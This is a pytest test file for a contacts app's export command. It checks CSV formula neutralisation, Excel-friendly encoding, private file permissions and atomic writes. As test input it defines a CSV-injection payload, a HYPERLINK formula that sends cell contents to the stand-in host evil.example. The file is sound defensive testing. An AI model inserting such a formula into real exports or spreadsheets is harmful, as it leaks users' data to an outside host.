"""Exports that open right in Excel, can't run formulas, and never leave half a file."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import event

from app.clock import FixedClock
from app.db.models import Contact, Inquiry
from app.services import export
from app.services.contacts import create_contact
from app.services.context import open_context
from app.services.dto import ContactInput

CliRunner = Callable[..., Any]  # fixture from tests/cli/conftest.py
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def lead(cli: CliRunner, first: str, last: str = "Test", *extra: str) -> None:
    # --first=VALUE, so a name starting with "-" is not taken for an option
    run = cli("add-lead", f"--first={first}", f"--last={last}", "--type", "purchase", *extra)
    assert run.code == 0, run.err


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM, so Excel reads UTF-8
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_is_excel_friendly_and_formulas_are_neutralised(cli: CliRunner, tmp_path: Path) -> None:
    lead(cli, FORMULA, "@SUM(A1:A9)", "--email", "evil@example.com", "--phone", "416 555 0101")
    lead(cli, "-2+3", "+Plus")
    lead(cli, "Zoë", "O'Brien, Jr.", "--amount", "425000")
    target = tmp_path / "contacts.csv"
    assert cli("export", "contacts", "-o", str(target)).code == 0
    data = target.read_bytes()
    assert data.count(b"\n") == data.count(b"\r\n") == 4  # header + 3 rows, CRLF only
    rows = read_csv(data)
    assert [r["first_name"] for r in rows] == ["'" + FORMULA, "'-2+3", "Zoë"]
    assert [r["last_name"] for r in rows] == ["'@SUM(A1:A9)", "'+Plus", "O'Brien, Jr."]
    assert rows[0]["emails"] == "evil@example.com"
    assert rows[0]["phones"] == "'+14165550101"  # text starting with + is neutralised too
    assert rows[0]["id"] == "1" and rows[0]["do_not_contact"] == "false"
    assert rows[0]["created_at"] == "2026-03-02T14:00:00+00:00"
    assert rows[0]["consent_email"] == "none"

    inquiries = read_csv(cli("export", "inquiries").out.encode("utf-8"))
    assert inquiries[0]["contact_name"].startswith("'=HYPERLINK")
    assert inquiries[2]["amount"] == "425000.00" and inquiries[2]["type"] == "purchase"
    assert int(inquiries[0]["score"]) >= 0  # numbers stay numbers

    # JSON is data for programs: nothing is altered there.
    records = json.loads(cli("export", "contacts", "--format", "json").out)
    assert records[0]["first_name"] == FORMULA and records[0]["phones"] == "+14165550101"
    assert records[0]["do_not_contact"] is False and records[2]["archived_at"] is None


def test_lists_and_consents_in_contacts(clock: FixedClock, db_path: Path, cli: CliRunner) -> None:
    ctx = open_context(db_path, clock)
    try:
        create_contact(
            ctx,
            ContactInput(
                first_name="Lin",
                last_name="Wu",
                emails=("lin@example.com", "lin.wu@work.example"),
                phones=("416 555 0110", "647 555 0111"),
                tags=("vip", "renewal-2027"),
                do_not_contact=True,
            ),
        )
    finally:
        ctx.db.close()
    [row] = json.loads(cli("export", "contacts", "--format", "json").out)
    assert row["emails"] == "lin@example.com; lin.wu@work.example"
    assert row["phones"] == "+14165550110; +16475550111"
    assert row["tags"] == "renewal-2027; vip"
    assert row["do_not_contact"] is True


def test_chunks_keep_each_contact_with_its_own_emails(
    cli: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "CHUNK_SIZE", 2)
    for n in range(7):
        lead(cli, f"P{n}", "Test", "--email", f"p{n}@example.com")
    rows = json.loads(cli("export", "contacts", "--format", "json").out)
    assert [(r["first_name"], r["emails"]) for r in rows] == [
        (f"P{n}", f"p{n}@example.com") for n in range(7)
    ]
    assert len(json.loads(cli("export", "inquiries", "--format", "json").out)) == 7


def test_export_reads_rows_not_orm_objects(cli: CliRunner) -> None:
    for n in range(3):
        lead(cli, f"P{n}")
    loaded: list[object] = []

    def count(target: object, _context: object) -> None:
        loaded.append(target)

    event.listen(Contact, "load", count)
    event.listen(Inquiry, "load", count)
    try:
        for name in export.DATASETS:
            assert cli("export", name).code == 0
    finally:
        event.remove(Contact, "load", count)
        event.remove(Inquiry, "load", count)
    assert loaded == []


def test_file_is_private_even_when_replacing_an_open_one(cli: CliRunner, tmp_path: Path) -> None:
    lead(cli, "Ann")
    target = tmp_path / "out.json"
    target.write_text("old")
    target.chmod(0o644)
    assert cli("export", "contacts", "--format", "json", "-o", str(target)).code == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert json.loads(target.read_text())[0]["first_name"] == "Ann"


@pytest.mark.parametrize(
    ("failure", "code"),
    [(OSError(28, "No space left on device"), 2), (RuntimeError("disk gremlin"), 1)],
    ids=["disk full", "bug"],
)
def test_a_failed_export_leaves_the_old_file_and_no_half_file(
    cli: CliRunner,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    failure: Exception,
    code: int,
) -> None:
    for n in range(5):
        lead(cli, f"P{n}")
    real_rows = export.DATASETS["contacts"].rows

    def failing_rows(ctx: Any) -> Iterator[dict[str, Any]]:
        rows = real_rows(ctx)
        yield next(rows)
        yield next(rows)
        raise failure

    monkeypatch.setitem(
        export.DATASETS,
        "contacts",
        export.Dataset("contacts", export.CONTACT_COLUMNS, failing_rows),
    )
    folder = tmp_path / "exports"
    folder.mkdir()
    target = folder / "contacts.csv"
    target.write_text("yesterday's export\n")
    run = cli("export", "contacts", "-o", str(target))
    line = run.one_line_error(code)
    if code == 2:
        assert "No space left on device" in line
    assert target.read_text() == "yesterday's export\n"
    assert os.listdir(folder) == ["contacts.csv"]


def test_empty_exports_still_have_their_header(cli: CliRunner) -> None:
    run = cli("export", "provenance")
    assert run.out == "\ufeff" + ",".join(export.PROVENANCE_COLUMNS) + "\r\n"
    assert json.loads(cli("export", "interactions", "--format", "json").out) == []


def test_every_formula_start_is_neutralised_but_numbers_are_not() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert export.csv_cell(text) == "'" + text
    assert export.csv_cell("Plain 'text' = fine") == "Plain 'text' = fine"
    assert export.csv_cell(-5) == "-5"  # a number we computed is not a formula
    assert export.csv_cell(None) == "" and export.csv_cell(True) == "true"
